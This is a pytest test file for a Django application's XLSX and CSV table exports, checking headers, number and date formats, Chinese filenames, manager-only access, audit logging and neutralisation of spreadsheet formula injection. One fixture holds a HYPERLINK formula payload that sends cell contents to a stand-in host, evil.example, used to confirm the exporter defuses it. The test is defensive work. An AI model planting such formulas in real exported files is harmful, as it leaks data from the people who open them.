"""Table exports (XLSX, CSV) through targets.reporting.exports, on a small table of PeriodValue rows."""

import csv
import io
import os
import subprocess
import sys
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from urllib.parse import unquote

import django_tables2 as tables
import pytest
from django.urls import path
from django.utils import timezone
from django_tables2.views import SingleTableView
from openpyxl import load_workbook

from targets.models import AuditEvent, Goal, Indicator, PeriodValue
from targets.reporting.exports import ManagerExportMixin, content_disposition, neutralise
from targets.seed.briefing import plan as briefing_plan

pytestmark = [pytest.mark.django_db, pytest.mark.urls(__name__)]


class PeriodValueTable(tables.Table):
    name = tables.Column(accessor="indicator__name", verbose_name="指标")
    unit = tables.Column(accessor="indicator__unit", verbose_name="单位")
    period_start = tables.Column(verbose_name="期间开始")
    actual = tables.Column(verbose_name="本期完成")
    cumulative_actual = tables.Column(verbose_name="累计完成")
    status = tables.Column(verbose_name="状态")

    def render_actual(self, value):
        return f"{value:,.1f}"  # the page shows text …

    def value_actual(self, value):
        return value  # … the export keeps the Decimal


class PeriodValueView(ManagerExportMixin, SingleTableView):
    table_class = PeriodValueTable
    template_name = "django_tables2/table.html"
    paginate_by = 2
    export_name = "指标汇总"
    export_ascii_name = "period-values"
    export_units = {"actual": "亿元"}

    def get_queryset(self):
        queryset = PeriodValue.objects.select_related("indicator").order_by("indicator__order")
        if self.request.GET.get("status"):
            queryset = queryset.filter(status=self.request.GET["status"])
        return queryset


urlpatterns = [path("pv/", PeriodValueView.as_view(), name="pv")]

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.fixture
def values(departments):
    department = departments[0]
    goal = Goal.objects.create(plan=briefing_plan(), code="g", name="项目建设", level=Goal.Level.SECTION)
    rows = [
        ("invest", "固定资产投资", "亿元", Decimal("433.2000"), Decimal("1200.5000"), "green"),
        ("signed", "签约项目", "个", Decimal("12.0000"), Decimal("51.0000"), "yellow"),
        ("evil", EVIL, "个", Decimal("-3.0000"), Decimal("0.2500"), "red"),
    ]
    now = timezone.now()
    for order, (code, name, unit, actual, cumulative, status) in enumerate(rows):
        indicator = Indicator.objects.create(
            code=code,
            name=name,
            unit=unit,
            kind=Indicator.Kind.AMOUNT,
            plan_start=date(2021, 10, 1),
            plan_end=date(2021, 12, 31),
            department=department,
            goal=goal,
            order=order,
        )
        PeriodValue.objects.create(
            indicator=indicator,
            period_type="quarter",
            period_start=date(2021, 10, 1),
            period_end=date(2021, 12, 31),
            actual=actual,
            cumulative_actual=cumulative,
            status=status,
            computed_at=now,
        )
    return PeriodValue.objects.select_related("indicator").order_by("indicator__order")


def download(client, query):
    response = client.get("/pv/" + query)
    assert response.status_code == 200, response.status_code
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body


def test_it_exports_xlsx_with_numbers_as_numbers_matching_the_rollup(client, manager, values):
    client.force_login(manager)
    response, body = download(client, "?_export=xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(body)).active
    assert [c.value for c in sheet[1]] == ["指标", "单位", "期间开始", "本期完成（亿元）", "累计完成", "状态"]
    assert sheet.freeze_panes == "A2"
    data = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(data) == 3  # every row, not the page of 2
    for row, pv in zip(data, values, strict=True):
        assert Decimal(str(row[3])) == pv.actual
        assert Decimal(str(row[4])) == pv.cumulative_actual
    assert sheet["D2"].data_type == "n"
    assert sheet["D2"].number_format == "#,##0.0"
    assert sheet["E4"].number_format == "#,##0.00"  # 0.25 needs two places
    assert data[0][5] == "同步/超前"
    assert sheet.column_dimensions["A"].width >= 12


def test_it_neutralises_formula_injection_but_keeps_negative_numbers(client, manager, values):
    client.force_login(manager)
    _, body = download(client, "?_export=xlsx")
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet["A4"].value == "'" + EVIL
    assert sheet["A4"].data_type == "s"
    assert sheet["D4"].value == -3
    _, body = download(client, "?_export=csv")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[3][0] == "'" + EVIL
    assert rows[3][3] == "-3"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\0x"])
def test_it_prefixes_every_dangerous_leading_character(text):
    assert neutralise(text) == "'" + text
    assert neutralise("普通文本") == "普通文本"
    assert neutralise(Decimal("-5")) == Decimal("-5")


def test_it_exports_csv_with_a_bom_and_chinese_headers(client, manager, values):
    client.force_login(manager)
    response, body = download(client, "?_export=csv")
    assert response.streaming
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body[3:].decode("utf-8"))))
    assert rows[0] == ["指标", "单位", "期间开始", "本期完成（亿元）", "累计完成", "状态"]
    assert rows[1][:2] == ["固定资产投资", "亿元"]
    assert rows[1][3] == "433.2"
    assert rows[2][4] == "51"


def test_it_names_the_file_in_chinese_with_the_date_and_an_ascii_fallback(client, manager, values, settings):
    settings.DEMO_TODAY = date(2021, 11, 19)
    client.force_login(manager)
    response, _ = download(client, "?_export=csv")
    header = response["Content-Disposition"]
    today = "2021-11-19"  # the page's as-of date: today, by the product's clock
    assert header.startswith(f'attachment; filename="period-values_{today}.csv"')
    encoded = header.split("filename*=UTF-8''")[1]
    assert unquote(encoded) == f"指标汇总_{today}.csv"
    assert header.isascii()


def test_it_keeps_the_page_filters_in_the_export(client, manager, values):
    client.force_login(manager)
    _, body = download(client, "?status=yellow&_export=xlsx")
    sheet = load_workbook(io.BytesIO(body)).active
    assert [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)] == ["签约项目"]


@pytest.mark.parametrize("who", ["clerk", "official", "outsider"])
def test_it_refuses_exports_to_everyone_but_managers(client, request, who, values):
    client.force_login(request.getfixturevalue(who))
    assert client.get("/pv/?_export=xlsx").status_code == 403
    assert client.get("/pv/?_export=csv").status_code == 403
    assert not AuditEvent.objects.filter(action="export").exists()


def test_it_lets_superusers_export(client, django_user_model, values):
    admin = django_user_model.objects.create_superuser("root", password="pw-root")
    client.force_login(admin)
    assert client.get("/pv/?_export=xlsx").status_code == 200


def test_it_records_who_exported_what_and_when(client, manager, values):
    client.force_login(manager)
    download(client, "?status=red&_export=csv")
    event = AuditEvent.objects.get(action="export")
    assert event.user == manager
    assert event.detail["format"] == "csv"
    assert event.detail["query"] == "status=red"
    assert event.target.startswith("指标汇总_")


def test_it_refuses_unknown_formats(client, manager, values):
    client.force_login(manager)
    assert client.get("/pv/?_export=yaml").status_code == 400


def test_it_shows_the_page_itself_without_exporting(client, official, values):
    client.force_login(official)
    response = client.get("/pv/")
    assert response.status_code == 200
    assert "433.2" in response.content.decode()


def test_it_header_is_rfc5987_for_any_name():
    header = content_disposition("重点项目 进度.xlsx", "key projects.xlsx")
    assert header == (
        'attachment; filename="key_projects.xlsx"; '
        "filename*=UTF-8''%E9%87%8D%E7%82%B9%E9%A1%B9%E7%9B%AE%20%E8%BF%9B%E5%BA%A6.xlsx"
    )


def test_it_writes_dates_and_datetimes_as_excel_dates(client, manager, values):
    from targets.reporting.exports import write_xlsx

    out = io.BytesIO()
    write_xlsx(
        out,
        names=["d", "t"],
        headers=["日期", "时间"],
        rows=iter([[date(2021, 10, 1), datetime(2021, 10, 1, 9, 30)]]),
    )
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet["A2"].is_date and sheet["A2"].value.date() == date(2021, 10, 1)
    assert sheet["B2"].number_format == "yyyy-mm-dd hh:mm"


class PlainTable(tables.Table):
    """Only plain fields: exported straight from values_list, no model instances."""

    name = tables.Column(accessor="indicator__name", verbose_name="指标")
    period_type = tables.Column(verbose_name="周期")
    period_start = tables.DateColumn(verbose_name="开始")
    actual = tables.Column(verbose_name="本期完成")
    status = tables.Column(verbose_name="状态")


def test_it_exports_plain_field_tables_with_labels_dates_and_numbers(rf, manager, values):
    from targets.reporting.exports import export_table

    request = rf.get("/pv/", {"_export": "xlsx"})
    request.user = manager
    response = export_table(request, PlainTable(values), export_format="xlsx", name="汇总")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert [c.value for c in sheet[2]] == ["固定资产投资", "季度", datetime(2021, 10, 1), 433.2, "同步/超前"]
    assert sheet["C2"].number_format == "yyyy-mm-dd"
    assert sheet["A4"].value == "'" + EVIL


def test_it_needs_no_tablib_anywhere():
    # django-tables2's own export goes through tablib; ours writes XLSX and CSV itself, so
    # every page and the API load with tablib absent (it is not in requirements.txt).
    code = (
        "import sys; sys.modules['tablib'] = None; import django; django.setup(); "
        "import zhengdong.urls, targets.bench.export; from django.urls import get_resolver; "
        "get_resolver().url_patterns; assert 'django_tables2.export' not in sys.modules"
    )
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "zhengdong.settings"}
    subprocess.run([sys.executable, "-c", code], check=True, env=env, cwd=Path(__file__).parents[3])
